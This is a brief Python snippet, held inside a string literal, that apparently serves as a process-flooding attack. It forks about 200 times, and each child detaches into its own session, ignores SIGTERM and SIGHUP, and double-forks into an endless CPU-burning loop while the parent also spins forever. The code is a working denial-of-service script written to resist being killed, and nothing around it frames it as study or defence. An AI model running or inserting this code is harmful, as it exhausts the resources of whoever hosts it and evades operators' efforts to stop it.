"""Every copy makes a session of its own, forks twice and ignores signals.

# %% double
import os, signal
for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
            if os.fork() == 0:
                while True: pass
            os._exit(0)
    except OSError: break
while True: pass
"""
